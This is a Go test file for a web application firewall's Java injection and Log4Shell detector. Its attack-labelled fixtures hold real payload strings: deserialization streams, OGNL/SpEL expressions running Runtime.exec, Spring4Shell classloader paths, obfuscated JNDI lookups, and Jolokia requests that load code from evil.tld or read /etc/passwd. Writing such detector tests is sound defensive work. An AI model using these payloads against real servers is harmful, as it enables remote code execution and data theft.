package detect

import (
	"testing"

	"github.com/rampartwaf/rampart/internal/parse"
	"github.com/rampartwaf/rampart/internal/request"
)

func TestJava(t *testing.T) {
	q := request.Param{Source: request.SourceQuery, Name: "q"}
	tests := []struct {
		name  string
		param request.Param
		value string
		want  bool
	}{
		// Serialized objects.
		{"base64 stream", q, "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", true},
		{"base64 magic only", q, "rO0ABQ", true},
		{"base64 shifted one", q, "AKztAAXNy", true},
		{"base64 shifted two", q, "AACs7QAFc3I", true},
		{"hex stream", q, "aced00057372002e6a617661", true},
		{"raw stream", q, "\xac\xed\x00\x05sr\x00\x11java.util.HashMap", true},
		{"bcel", q, "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A", true},
		// Class names.
		{"runtime class", q, "java.lang.Runtime", true},
		{"process builder in text", q, "x = new java.lang.ProcessBuilder(cmd)", true},
		{"reflect package", q, "java.lang.reflect.Method", true},
		{"script engine", q, "javax.script.ScriptEngineManager", true},
		{"xstream class attribute", q, "com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource", true},
		{"templates impl", q, "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", true},
		{"jackson gadget array", q, `["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://a.example/x"}]`, true},
		{"fastjson descriptor", q, "Lcom.sun.rowset.JdbcRowSetImpl;", true},
		{"functors", q, "org.apache.commons.collections.functors.InvokerTransformer", true},
		{"struts internals", q, "com.opensymphony.xwork2.ActionContext.container", true},
		{"freemarker execute", q, `<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`, true},
		{"java dot runtime", q, "java.Runtime", true},
		{"gadget with runtime", q, "ProcessBuilder.x.invokertransformer", true},
		{"weblogic console", q, "com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('http://a.example/x.xml')", true},
		{"whole value io class", q, "java.io.FileOutputStream", true},
		{"whole value lang class", q, " java.lang.Class ", true},
		{"whole value corba", q, "org.omg.CORBA", true},
		{"fastjson type", request.Param{Source: request.SourceJSON, Name: "a.@type", Value: "x"}, "org.example.evil.Payload", true},
		// Calls and expressions.
		{"get runtime exec", q, `Runtime.getRuntime().exec("id")`, true},
		{"runtime in a variable", q, `script::Runtime r = Runtime.getRuntime(); r.exec("touch /tmp/x");`, true},
		{"text4shell", q, "${script:javascript:1+1}", true},
		{"jaas jndi module", q, `com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://a.example:1389/x"`, true},
		{"reflective getRuntime", q, `m = c.getMethod("getRuntime")`, true},
		{"getclass forname", q, `''.getClass().forName('x')`, true},
		{"process builder start", q, `new ProcessBuilder("id").start()`, true},
		{"groovy execute", q, `"id".execute().text`, true},
		{"spel type", q, "${T(java.lang.Runtime).getRuntime()}", true},
		{"spel type lower", q, "t(org.springframework.util.StreamUtils)", true},
		{"ognl content type", q, "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", true},
		{"ognl member access", q, "(#_memberAccess['allowStaticMethodAccess']=true)", true},
		{"ognl dollar paren", q, "${(#a=@org.apache.commons.io.IOUtils@toString(x))}", true},
		{"ognl percent var", q, "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", true},
		{"ognl dollar context", q, "${#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse')}", true},
		{"ognl static", q, "@java.lang.System@getProperty('user.dir')", true},
		{"jsf el exec", q, "#{runtime.exec('id')}", true},
		{"el getclass", q, "${''.getClass().getName()}", true},
		{"template forname", q, "{{'a'.getClass().forName('javax.script.ScriptEngineManager')}}", true},
		{"spring4shell", q, "class.module.classLoader.resources.context.parent.pipeline.first.pattern", true},
		{"struts classloader", q, "class.classLoader.jarPath", true},
		{"classloader index", q, "top['class']['classLoader']['resources']", true},
		{"classloader index double", q, `class["classLoader"].resources.dirContext.docBase`, true},
		// JSP upload.
		{"jsp upload", request.Param{Source: request.SourceMultipart, Name: "file.filename"}, "shell.jsp", true},
		{"jspx trailing dots", request.Param{Source: request.SourceMultipart, Name: "file.filename"}, "shell.jspx...", true},
		{"jsp space", request.Param{Source: request.SourceMultipart, Name: "f.filename"}, "shell. jsp", true},
		{"jsp ads", request.Param{Source: request.SourceHeader, Name: "X-File-Name"}, "cmd.jsp::$DATA", true},
		{"jsp header", request.Param{Source: request.SourceHeader, Name: "X_filename"}, "a.JSP ", true},

		// Benign.
		{"forum cast error", q, "java.lang.String cannot be cast to java.lang.Integer", false},
		{"deserialize message", q, "Cannot deserialize instance of `java.util.ArrayList<java.lang.Integer>` out of VALUE_STRING", false},
		{"java util list", q, "java.util.List", false},
		{"generic list", q, "List<java.lang.String> names = new ArrayList<>();", false},
		{"maven coordinate", q, "org.apache.commons:commons-lang3:3.14.0", false},
		{"maven group", q, "org.apache.commons", false},
		{"spring package", q, "org.springframework.boot", false},
		{"stack frame", q, "\tat java.lang.reflect.Method.invoke(Method.java:498)", false},
		{"stack frame process", q, "at java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)", false},
		{"native frame", q, "at sun.reflect.NativeMethodAccessorImpl.invoke0(Native Method)", false},
		{"exception name", q, "Caused by: java.lang.reflect.InvocationTargetException", false},
		{"xml exception", q, "com.sun.org.apache.xerces.internal.impl.io.MalformedByteSequenceException: Invalid byte", false},
		{"import", q, "import java.lang.reflect.Method;\nimport java.util.Map;", false},
		{"jre prose", q, "Download the Java Runtime Environment", false},
		{"runtime property", q, "java.runtime.version=17.0.2", false},
		{"runtime property whole", q, "java.runtime.name", false},
		{"class for name driver", q, `Class.forName("com.mysql.cj.jdbc.Driver");`, false},
		{"runtime processors", q, "Runtime.getRuntime().availableProcessors()", false},
		{"host name sun", q, "sun.example.com", false},
		{"host name jdk", q, "jdk.java.net", false},
		{"io class in text", q, "Use java.io.File or java.nio.file.Path for this", false},
		{"version", q, "1.2.3.4", false},
		{"email", q, "first.last@example.com", false},
		{"two emails", q, "a@b.com, c@D.org@x", false},
		{"js template literal exec", q, "`found ${re.exec(s)[0]}`", false},
		{"thymeleaf helper", q, "${#dates.format(today,'dd/MM/yyyy')}", false},
		{"template variable", q, "Hello ${user.firstName}", false},
		{"ruby interpolation", q, `puts "#{name} is #{age}"`, false},
		{"angular", q, "{{ item.name | uppercase }}", false},
		{"att", q, "AT&T(www.att.com) customer care", false},
		{"math", q, "T(n) = 2T(n/2) + O(n)", false},
		{"base64 token", q, "dGhpcyBpcyBhIHRlc3Q=", false},
		{"hex hash", q, "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", false},
		{"hex with aced inside", q, "77aced0005ff", false},
		{"jsp link", q, "/app/index.jsp?x=1", false},
		{"class word", q, "first class.Module 3 starts at 9", false},
		{"getclass code", q, "obj.getClass().getName()", false},
		{"groovy list", q, "handlers[0].execute()", false},
		{"ognl-like email", q, "user@Example.Com", false},
		{"pdf upload", request.Param{Source: request.SourceMultipart, Name: "file.filename"}, "report.pdf", false},
		{"jsp in name", request.Param{Source: request.SourceMultipart, Name: "file.filename"}, "jsp-notes.txt", false},
		{"jsp in query", q, "index.jsp", false},
		{"whole value in path", request.Param{Source: request.SourcePath, Name: "path[2]"}, "java.lang.String", false},
		{"type not java", request.Param{Source: request.SourceJSON, Name: "@type"}, "Person", false},
		{"class attr legit", request.Param{Source: request.SourceJSON, Name: "@class"}, "com.example.dto.OrderLine", false},
		{"jackson type url", request.Param{Source: request.SourceJSON, Name: "detail.@type"}, "type.googleapis.com/google.rpc.ErrorInfo", false},
		{"ldap settings", q, "com.sun.jndi.ldap.LdapCtxFactory", false},
		{"c3p0 pool", q, "com.mchange.v2.c3p0.ComboPooledDataSource", false},
		{"spring context import", q, "import org.springframework.context.support.ClassPathXmlApplicationContext;", false},
		{"process builder prose", q, "ProcessBuilder is better than Runtime.exec", false},
		{"classloader prose", q, "see [classLoader] docs for class loaders", false},
		{"classloader array", q, "loaders[classLoaderIndex]", false},
		{"script word", q, "${scripts} and ${script.name}", false},
		{"jaas ldap module", q, `com.sun.security.auth.module.LdapLoginModule required userProvider="ldap://ldap.example.com/ou=people"`, false},
		{"gwt rpc", q, "7|0|6|http://h/app/|ABC|com.example.client.GreetingService|greet|java.lang.String/2004016611|World|1|2|3|4|1|5|6|", false},
	}
	attacks, benign := 0, 0
	for _, tt := range tests {
		if tt.want {
			attacks++
		} else {
			benign++
		}
		t.Run(tt.name, func(t *testing.T) {
			p := tt.param
			p.Value = tt.value
			_, got := matchJava(&p, tt.value)
			if got != tt.want {
				t.Errorf("matchJava(%s %q, %q) = %v, want %v", p.Source, p.Name, tt.value, got, tt.want)
			}
		})
	}
	if benign < attacks {
		t.Errorf("%d benign cases for %d attacks: keep at least as many benign", benign, attacks)
	}
}

// TestJavaParamNames checks names the parser keeps as plain (dots only), which the
// request check inspects.
func TestJavaParamNames(t *testing.T) {
	tests := []struct {
		param request.Param
		want  bool
	}{
		{request.Param{Source: request.SourceForm, Name: "class.module.classLoader.resources.context.parent.pipeline.first.suffix", Value: ".jsp"}, true},
		{request.Param{Source: request.SourceCookie, Name: "java.lang.Runtime", Value: "1"}, true},
		{request.Param{Source: request.SourceJSON, Name: "rO0ABQ", Value: "1"}, true},
		{request.Param{Source: request.SourceQuery, Name: "java.io.File", Value: "1"}, true},
		{request.Param{Source: request.SourceQuery, Name: "user.address.city", Value: "Leeds"}, false},
		{request.Param{Source: request.SourceJSON, Name: "items[0].sku", Value: "SKU-1"}, false},
		{request.Param{Source: request.SourceXML, Name: "xml.java.lang.Runtime.@attr", Value: "v"}, false},
		{request.Param{Source: request.SourceHeader, Name: "Java.lang.Runtime", Value: "v"}, false},
		{request.Param{Source: request.SourceForm, Name: "javax.faces.ViewState", Value: "e1s1"}, false},
		// A name sent without a value is still a name a data binder reads.
		{request.Param{Source: request.SourceQuery, Name: "class.module.classLoader.resources.context.parent.pipeline.first.pattern", Value: ""}, true},
		// The path of a JSON number, true, false or null is no property path.
		{request.Param{Source: request.SourceJSON, Name: "java.lang.Runtime", Value: "1", Literal: true}, false},
	}
	for _, tt := range tests {
		r := &request.Request{Params: []request.Param{tt.param}}
		Inspect(r)
		if got := has(r, CODEINJECTION, tt.param.Name); got != tt.want {
			t.Errorf("name %s %q: CODEINJECTION = %v, want %v (%+v)", tt.param.Source, tt.param.Name, got, tt.want, r.Signals)
		}
	}
}

// TestJavaEncoded checks forms the dispatch decodes before the check sees them.
func TestJavaEncoded(t *testing.T) {
	for _, v := range []string{
		"%24%7BT%28java.lang.Runtime%29.getRuntime%28%29.exec%28%27id%27%29%7D",
		`\u006aava.lang.Runtime`,
		"java&#46;lang&#46;ProcessBuilder",
	} {
		r := &request.Request{Params: []request.Param{{Source: request.SourceCookie, Name: "c", Value: v}}}
		Inspect(r)
		if !has(r, CODEINJECTION, "c") {
			t.Errorf("no %s on %q: %+v", CODEINJECTION, v, r.Signals)
		}
	}
}

func BenchmarkJavaBenign(b *testing.B) {
	p := &request.Param{Source: request.SourceQuery, Name: "q"}
	vals := []string{
		"running shoes", "42", "jane.doe@example.org", "https://shop.example.com/catalog?page=2",
		"Please leave the parcel with the neighbour if nobody is home.",
		"java.lang.String cannot be cast to java.lang.Integer",
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		for _, v := range vals {
			matchJava(p, v)
		}
	}
}

// jndiLookups are Log4Shell payloads, plain and obfuscated the ways log4j.go resolves
// (nested lookups, defaults, case, a lookup built by resolving twice, no braces left).
var jndiLookups = []string{
	"${jndi:ldap://a.example/x}", "${${::-j}${::-n}${::-d}${::-i}:rmi://a.example/x}",
	"${${lower:J}ndi:dns://a.example}", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://a.example/x}",
	"${JnDi:ldaps://a.example/x}", "$${::-$}{jndi:ldap://a.example/x}", "jndi:ldap://a.example/x",
	"${jnd${upper:ı}:ldap://a.example/x}",
}

// javaIdioms are Java process and reflection idioms that java.go matches anywhere.
var javaIdioms = []string{
	"Runtime.getRuntime().exec(\"id\")", "new ProcessBuilder(\"id\").start()", "\"\".getClass().forName(\"x\")",
	"\"id\".execute()", "T(java.lang.Runtime).getRuntime()", "${script:javascript:java.lang.Runtime.getRuntime()}",
	"%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "class.module.classLoader.resources",
}

// FuzzJavaLog4j checks the promises of log4j.go and java.go on arbitrary input:
//
//   - LOG4J-JNDI: a JNDI lookup of jndiLookups is found wherever it sits in benign text;
//     a lookup whose default spells the "j" of jndi is resolved whatever the lookup's
//     name (${xyz:-j}ndi...); benign text (no '$' or ':') never matches;
//   - CODEINJECTION (Java): each of javaIdioms is found in benign text, and an uploaded
//     file name ending in .jsp or .jspx (after trailing dots or spaces too) whatever its
//     base name; words of prose (no digits or dots) never match, in a query value, a
//     file name or a fastjson @type key;
//   - fragments are non-empty and part of the value.
func FuzzJavaLog4j(f *testing.F) {
	for _, s := range []string{
		"${${::-j}ndi:ldap://a/x}", "$${::-$}{jndi:x}", "${lower:${upper:ı}}", "rO0ABXNy",
		"AKztAAX", "%{(#_='x')}", "T(java.lang.Runtime)", "a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p.q.r",
		"Lcom.sun.rowset.JdbcRowSetImpl;", "getRuntime().exec(", "x.jsp::$DATA", "\xac\xed\x00\x05",
	} {
		f.Add(s, "", uint8(0))
	}
	for n := range 8 {
		f.Add("Please call me back tomorrow", "thanks", uint8(n))
	}
	params := []request.Param{
		{Source: request.SourceQuery, Name: "q"},
		{Source: request.SourceMultipart, Name: "f.filename"},
		{Source: request.SourceJSON, Name: "@type"},
	}
	f.Fuzz(func(t *testing.T, v, suffix string, n uint8) {
		for i := range params {
			if frag, ok := matchJava(&params[i], v); ok {
				checkFragment(t, CODEINJECTION, v, frag)
			}
		}
		if frag, ok := matchLog4j(&params[0], v); ok {
			checkFragment(t, LOG4J, v, frag)
		}

		before, after := benignText(v, benignAlphabet, 60)+" ", " "+benignText(suffix, benignAlphabet, 60)
		name := "x" + benignText(suffix, "abcdefghijklmnopqrstuvwxyz", 10)
		for _, lookup := range []string{pick(jndiLookups, n), "${${" + name + ":-j}ndi:ldap://a.example/x}"} {
			w := before + lookup + after
			if frag, ok := matchLog4j(&params[0], w); !ok {
				t.Fatalf("LOG4J-JNDI missed %q", w)
			} else {
				checkFragment(t, LOG4J, w, frag)
			}
		}
		if w := before + benignText(suffix, benignAlphabet, 60); func() bool { _, ok := matchLog4j(&params[0], w); return ok }() {
			t.Fatalf("LOG4J-JNDI matched benign %q", w)
		}

		w := before + pick(javaIdioms, n) + after
		if frag, ok := matchJava(&params[0], w); !ok {
			t.Fatalf("CODEINJECTION (Java) missed %q", w)
		} else {
			checkFragment(t, CODEINJECTION, w, frag)
		}
		file := "a" + benignText(v, "abcdefghijklmnopqrstuvwxyz0123456789-_", 30) + pick([]string{".jsp", ".jspx", ".JSP", ".jsp.", ".jsp ", ".jspx..."}, n)
		if _, ok := matchJava(&params[1], file); !ok {
			t.Fatalf("CODEINJECTION (Java) missed the upload %q", file)
		}
		words := benignText(v+suffix, wordAlphabet, 200)
		for i := range params {
			if frag, ok := matchJava(&params[i], words); ok {
				t.Fatalf("CODEINJECTION (Java) matched prose %q in %q (fragment %q)", words, params[i].Name, frag)
			}
		}
	})
}

// TestJolokiaExec checks Jolokia exec requests of operations that load code or touch
// files, in the URL and in a JSON request, against an admin console's reads.
func TestJolokiaExec(t *testing.T) {
	tests := []struct {
		name, path, body string
		want             bool
	}{
		{"logback reload by url", "/actuator/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/evil.tld!/logback.xml", "", true},
		{"diagnostic command file read", "/jolokia/exec/com.sun.management:type=DiagnosticCommand/compilerDirectivesAdd/!/etc!/passwd", "", true},
		{"mlet from url", "/jolokia/exec/JMImplementation:type=MLet/getMBeansFromURL/http:!/!/evil.tld!/x", "", true},
		{"json reload by url", "/jolokia", `{"type":"exec","mbean":"ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator","operation":"reloadByURL","arguments":["http://evil.tld/logback.xml"]}`, true},
		{"json agent load", "/actuator/jolokia", `{"type":"EXEC","mbean":"com.sun.management:type=DiagnosticCommand","operation":"jvmtiAgentLoad(java.lang.String)","arguments":["/tmp/x.so"]}`, true},
		{"read heap memory", "/jolokia/read/java.lang:type=Memory/HeapMemoryUsage", "", false},
		{"exec gc", "/jolokia/exec/java.lang:type=Memory/gc", "", false},
		{"json thread dump", "/jolokia", `{"type":"exec","mbean":"com.sun.management:type=DiagnosticCommand","operation":"threadPrint","arguments":[]}`, false},
		{"blog post", "/blog/jolokia-exec-reloadbyurl-explained", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := &request.Request{Method: "GET", URI: tt.path, Path: tt.path}
			if tt.body != "" {
				r.Method, r.ContentType, r.Body = "POST", "application/json", []byte(tt.body)
			}
			parse.Fill(r, parse.Limits{})
			Inspect(r)
			if got := r.HasSignal(CODEINJECTION); got != tt.want {
				t.Errorf("CODEINJECTION = %v, want %v (signals %+v)", got, tt.want, r.Signals)
			}
		})
	}
}
